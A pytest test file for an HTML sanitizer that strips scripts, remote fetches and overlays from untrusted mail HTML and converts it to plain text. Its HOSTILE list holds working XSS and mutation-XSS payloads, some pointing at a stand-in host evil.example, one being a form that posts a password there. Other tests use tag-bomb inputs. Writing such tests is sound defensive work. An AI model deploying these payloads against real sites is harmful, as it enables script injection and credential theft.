"""HTML of strangers: nothing runs, nothing is fetched, the words stay."""

import struct
import time
from base64 import b64encode

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.safe_html import sanitize_html, to_plain_text


def png(width: int, height: int) -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + struct.pack(">II", width, height)


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='da&#10;ta:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<form action='https://evil.example'><input name=password></form>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href='https://evil.example'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example'>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<img srcset='https://evil.example 2x'>",
    "<video poster='https://evil.example'></video>",
    "<table background='https://evil.example'><tr><td>x</td></tr></table>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div id=location class=modal>x</div>",
    "<a href='/sign-out'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
]
FORBIDDEN = (
    "<script", "onerror", "onload", "javascript", "ascript:", "data:text", "<iframe", "<form",
    "<input", "<style", "<link", "<meta", "<base", "url(", "position", "srcset", "poster",
    "background=", "<svg", "<math", 'id="location"', "modal", "sign-out", "svg+xml", " src=",
)  # fmt: skip


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_runs_fetches_or_covers_is_left(html: str) -> None:
    clean = sanitize_html(html).lower()
    assert [word for word in FORBIDDEN if word in clean] == []


def test_links_open_apart_and_tell_nothing_of_us() -> None:
    clean = sanitize_html('<a href="https://visitor.example/?a=1&amp;b=2" target="_top">x</a>')
    assert 'href="https://visitor.example/?a=1&amp;b=2"' in clean
    assert 'target="_blank"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean


def test_a_remote_image_waits_for_consent_and_an_enclosed_one_for_its_part() -> None:
    clean = sanitize_html('<img src="https://t.example/p.gif?u=1"><img src="cid:logo@v.example">')
    assert 'data-remote-src="https://t.example/p.gif?u=1"' in clean
    assert 'data-cid="logo@v.example"' in clean
    assert " src=" not in clean


def test_a_picture_within_the_mail_is_shown() -> None:
    picture = f"data:image/png;base64,{b64encode(png(20, 10)).decode()}"
    assert f' src="{picture}"' in sanitize_html(f'<img src="{picture}">')


@pytest.mark.parametrize("content", [b"", b"<svg onload=alert(1)>", png(50_000, 50_000), png(0, 9)])
def test_what_only_calls_itself_a_picture_or_is_a_bomb_is_left_out(content: bytes) -> None:
    html = f'<img src="data:image/png;base64,{b64encode(content).decode()}">'
    assert "src" not in sanitize_html(html)


def test_colours_that_carry_meaning_stay() -> None:
    assert 'style="color:red"' in sanitize_html('<p style="color:red;float:left">see my answer</p>')


@given(st.text(alphabet="<>/='\" abimgsrchefonlt:&#;!-", max_size=300))
def test_a_second_pass_of_a_stricter_parser_finds_no_new_tags(html: str) -> None:
    clean = sanitize_html(html)
    assert nh3.clean(clean, tags=set()) == nh3.clean(sanitize_html(clean), tags=set())
    assert " src=" not in clean or "data:image" in clean


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 200000,
        "<p " + " ".join(f"a{n}=1" for n in range(100000)) + ">",
        "<!--" * 100000,
        "<" * 400000,
        "<a href='x" * 40000,
        "<table><tr><td>" * 30000,
        "<b><p>" * 80000,
        "<svg><math>" * 50000,
        "<select>" * 60000,
        "".join(f"<font color=#{n:06}>" for n in range(3000)) + "<p>x" * 20000,
    ],
    ids=lambda html: html[:16],
)
def test_a_bomb_of_tags_is_harmless(html: str) -> None:
    started = time.process_time()
    to_plain_text(html + "hello")
    assert time.process_time() - started < 4


def test_text_below_too_deep_a_nest_is_still_shown() -> None:
    assert to_plain_text("<div>" * 5000 + "hello") == "hello"


PLAIN = [
    ("<p>Dear all,</p><p>two<br>lines</p>", "Dear all,\n\ntwo\nlines"),
    ("<div>one</div><div>two</div>", "one\ntwo"),
    ("<ul><li>a</li><li>b</li></ul>", "- a\n- b"),
    ("<p>x</p><ul><li>a<ul><li>b</li></ul></li><li><p>c</p></li></ul>y", "x\n\n- a\n  - b\n- c\n\ny"),
    ("<ol><li>a</li><li>b</li></ol>", "1. a\n2. b"),
    ("<table><tr><td>Fee</td><td>397</td></tr><tr><td>Class</td><td>9</td></tr></table>",
     "Fee  397\nClass  9"),
    ("<blockquote>old</blockquote>new", "> old\n\nnew"),
    ("a &lt;b&gt; &amp;amp; c", "a <b> &amp; c"),
    ("<pre>a\n  b</pre>", "a\n  b"),
    ("  a \n b&nbsp;c ", "a b c"),
    ("<style>p{}</style><title>t</title><p>x", "x"),
    ("<p>ok <img alt='👍'></p>", "ok 👍"),
    ("<h1>Title</h1>text", "Title\n\ntext"),
]  # fmt: skip


@pytest.mark.parametrize(("html", "text"), PLAIN)
def test_text_reads_as_a_person_would_read_it(html: str, text: str) -> None:
    assert to_plain_text(html) == text
